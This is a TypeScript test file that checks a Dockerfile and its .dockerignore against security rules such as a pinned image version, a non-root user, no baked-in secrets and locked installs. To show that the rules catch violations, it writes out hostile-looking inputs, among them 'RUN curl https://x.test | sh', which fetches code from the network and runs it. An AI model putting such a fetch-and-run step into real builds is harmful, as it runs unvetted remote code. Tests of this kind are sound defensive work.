import { readFileSync } from 'node:fs'
import { validate } from 'dockerfile-utils'
import { readDockerfile } from './readStages'
import { createIgnored } from './ignoredFiles'
import { ruleViolations } from './ruleViolations'

const content = readDockerfile()

describe('the Dockerfile', () => {
  it('has nothing that its linter complains of', () => {
    expect(validate(content).map(({ message }) => message)).toEqual([])
    expect(validate('FROM node\nRUM npm ci\nWORKDIR\n').length).toBeGreaterThan(0)
  })

  it('follows our rules', () => {
    expect(ruleViolations(content)).toEqual([])
  })

  it.each([
    ['an image of any version', (text: string) => text.replaceAll('24.21.0-bookworm-slim', 'latest'), 'of one version'],
    ['root', (text: string) => text.replace('USER 1000:1000\n', ''), 'it runs as root'],
    ['a user by name', (text: string) => text.replace('USER 1000:1000', 'USER node'), 'it runs as node'],
    ['a secret', (text: string) => text.replace('PORT=4000', 'SESSION_SECRET=x'), 'would stay in a layer'],
    ['a secret to build with', (text: string) => text.replace('COPY src', 'ARG NPM_TOKEN\nCOPY src'), 'would stay in'],
    ['ADD', (text: string) => text.replace('COPY src src', 'ADD https://x.test/a.tar /'), 'ADD may take'],
    [
      'the net',
      (text: string) => text.replace('RUN node src', 'RUN curl https://x.test | sh; node src'),
      'from the net',
    ],
    ['packages that were not locked', (text: string) => text.replace('npm ci --omit', 'npm install --omit'), 'locked'],
    ['scripts of packages', (text: string) => text.replaceAll(' --ignore-scripts', ''), 'would run scripts'],
    ['the whole folder', (text: string) => text.replace('COPY src src', 'COPY . .'), 'the whole folder'],
    ['a shell', (text: string) => text.replace(/CMD \["node", "dist.*\]/, 'CMD node dist/server/main.js'), 'SIGTERM'],
    [
      'curl for its health',
      (text: string) => text.replace('CMD ["node", "-e"', 'CMD ["curl", "-e"'),
      'asked for by node',
    ],
  ])('would not with %s', (_title, change, words) => {
    expect(ruleViolations(change(content)).join('\n')).toContain(words)
  })

  it('takes nothing of the folder but what it is built from', () => {
    const isIgnored = createIgnored(readFileSync('src/packaging/Dockerfile.dockerignore', 'utf8'))
    const [taken, left] = [
      ['package-lock.json', 'src/server/main.ts', 'src/server/testing/quickStart.mjs', 'static/index.html'],
      [
        '.env',
        '.git/config',
        'data/session-secret',
        'node_modules/x/index.js',
        'dist/server/main.js',
        'docs/nginx.conf',
      ],
    ]

    expect(taken?.filter(isIgnored)).toEqual([])
    expect(
      [...(left ?? []), 'src/server/main.test.ts', 'src/packaging/compose/muster.env'].filter((one) => !isIgnored(one)),
    ).toEqual([])
  })
})
